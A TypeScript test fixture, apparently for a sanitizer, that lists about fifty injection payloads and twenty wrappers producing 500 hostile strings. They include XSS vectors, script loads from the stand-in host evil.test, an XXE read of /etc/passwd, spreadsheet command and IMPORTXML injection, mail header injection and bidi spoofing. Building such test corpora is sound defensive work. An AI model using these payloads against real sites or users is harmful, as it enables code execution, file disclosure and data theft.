/** What people have put into text fields to run, load, restyle or forge something: 50 attempts. */
export const HOSTILE_ATTEMPTS = [
  '<script>window.__ran=1</script>',
  '<img src=x onerror="window.__ran=1">',
  '<svg/onload=window.__ran=1>',
  '<iframe src="https://evil.test/frame"></iframe>',
  '<object data="https://evil.test/o"></object>',
  '<embed src="https://evil.test/e">',
  '<link rel="stylesheet" href="https://evil.test/c.css">',
  '<style>@import "https://evil.test/i.css";</style>',
  '<style>body{background:url(https://evil.test/b.png)}</style>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<form action="https://evil.test/"><input autofocus onfocus="window.__ran=1"></form>',
  '<video src="https://evil.test/v" onerror="window.__ran=1" autoplay></video>',
  '<a href="javascript:window.__ran=1">press</a>',
  '<div style="background:url(https://evil.test/d.png)" onclick="window.__ran=1">x</div>',
  '<math><mtext></table><mglyph><style><img src=x onerror=window.__ran=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.__ran=1>">',
  'javascript:window.__ran=1',
  'JaVaScRiPt\t:window.__ran=1',
  'data:text/html,<script>window.__ran=1</script>',
  'vbscript:msgbox(1)',
  '//evil.test/protocol-relative',
  '![picture](https://evil.test/p.png)',
  '=HYPERLINK("https://evil.test/","x")',
  '{{constructor.constructor("window.__ran=1")()}}',
  // In disguise.
  '<ScRiPt\n>window.__ran=1</sCrIpT >',
  '<<script>script>window.__ran=1<</script>/script>',
  '<script src=//evil.test/s.js async></script x>',
  '<details open ontoggle=window.__ran=1><summary>x</summary></details>',
  '<body onpageshow=window.__ran=1><marquee onstart=window.__ran=1>x</marquee>',
  '<template><script>window.__ran=1</script></template><portal src=https://evil.test/></portal>',
  '<img srcset="https://evil.test/s.png 2x" loading=eager><picture><source srcset=//evil.test/t.png></picture>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:window.__ran=1 /><a id=x>x</a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>"></iframe></foreignObject></svg>',
  '<?xml-stylesheet href="https://evil.test/x.xsl"?><!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  // In a style.
  '#000;background:url(https://evil.test/c.png)',
  'red;}*{background:url("//evil.test/all.png")}@import url(//evil.test/i.css);',
  'expression(window.__ran=1);-moz-binding:url(https://evil.test/b.xml#x);behavior:url(evil.htc)',
  'Lora";src:url(https://evil.test/f.woff2);font-family:"x',
  // In a script or in JSON-LD.
  '</script><script>window.__ran=1</script>',
  '\u2028window.__ran=1//\u2029","@type":"Review","ratingValue":"5","x":"',
  "';window.__ran=1;//\\",
  '${window.__ran=1}`;window.__ran=1;`<%= 7*7 %>#{7*7}{%raw%}',
  '{"type":"doc","content":[{"type":"script","content":"window.__ran=1"}],"__proto__":{"ran":1}}',
  // In a mail's head.
  'Hello\r\nBcc: all@evil.test\r\nContent-Type: text/html\r\n\r\n<script>window.__ran=1</script>',
  '"Ada" <ada@evil.test>, other@evil.test',
  // In a spreadsheet.
  "=cmd|'/C calc'!A0",
  '@SUM(1+1)*IMPORTXML("https://evil.test/?x","//a")',
  // In a PDF.
  ') Tj ET Q /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (',
  // To the eye.
  '\u202egnp.exe\u2066\u200f\ufeff\u200b\u2060<b>',
] as const;

/** Where each attempt is put: 20 ways. */
const WRAPPERS: readonly ((attempt: string) => string)[] = [
  (attempt) => attempt,
  (attempt) => `"'>${attempt}`,
  (attempt) => `</script>${attempt}`,
  (attempt) => `</style>${attempt}`,
  (attempt) => `</title></textarea>${attempt}`,
  (attempt) => `-->${attempt}<!--`,
  (attempt) => `]]>${attempt}`,
  (attempt) => `[press](${attempt})`,
  (attempt) => `[press](https://safe.test/" onmouseover="${attempt})`,
  (attempt) => `**${attempt}**`,
  (attempt) => `## ${attempt}`,
  (attempt) => `- ${attempt}\n- ${attempt}`,
  (attempt) => `> ${attempt}`,
  (attempt) => `1. *${attempt}*`,
  (attempt) => attempt.replace(/</g, '\u003c').replace(/a/g, 'A'),
  (attempt) => attempt.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (attempt) => `\u0000${attempt}\u202e`,
  (attempt) => attempt.split('').join('\u200b'),
  (attempt) => `${attempt}\n\n${attempt}\n${attempt}`,
  (attempt) => encodeURIComponent(attempt),
];

/**
 * 500 hostile texts, each attempt in every other of the ways; whoever shows them runs nothing (`window.__ran`) and asks no
 * other host for anything.
 */
export const HOSTILE_TEXTS: readonly string[] = WRAPPERS.flatMap((wrap, way) =>
  HOSTILE_ATTEMPTS.filter((_, index) => (index + way) % 2 === 0).map(wrap),
);
